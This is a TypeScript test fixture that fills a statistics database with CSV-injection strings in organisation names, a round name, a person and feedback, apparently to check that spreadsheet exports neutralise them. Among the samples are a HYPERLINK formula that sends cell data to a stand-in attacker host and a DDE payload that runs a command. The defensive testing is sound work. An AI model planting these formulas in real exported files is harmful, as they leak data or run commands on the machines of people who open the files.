import { StatsFixture } from './fixture'

/** Text that a spreadsheet would run as a formula if it were written as one (OWASP "CSV injection"). */
export const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
  plus: '+SUM(1,2)',
  minus: '-2+3',
  at: '@SUM(A1:A2)',
  tab: '\t=1+1',
  round: "=cmd|' /C calc'!A0",
  person: '=2*3',
  feedback: '=1+1 odlično',
}

/** A round and two placements whose organisations, round, person and feedback all carry hostile text. */
export async function buildHostile(): Promise<StatsFixture> {
  const f = await StatsFixture.create()
  const round = f.round(HOSTILE.round, '2024-01-01')
  const ministry = f.org(HOSTILE.hyperlink, 'ministry')
  const company = f.org(HOSTILE.plus, 'company')
  const ngo = f.org(HOSTILE.minus, 'ngo')
  const person = f.person(ministry, 'f', HOSTILE.person)
  const first = f.placement({ round, home: ministry, host: company, startsOn: '2024-03-04', endsOn: '2024-03-08', person, participantRating: 5 })
  f.placement({ round, home: ngo, host: f.org(HOSTILE.tab, 'public-body'), startsOn: '2024-03-11', endsOn: '2024-03-15' })
  f.conn.sqlite.prepare('UPDATE placements SET participant_feedback = ? WHERE id = ?').run(HOSTILE.feedback, first.id)
  f.offer(round, f.org(HOSTILE.at, 'association'))
  return f
}
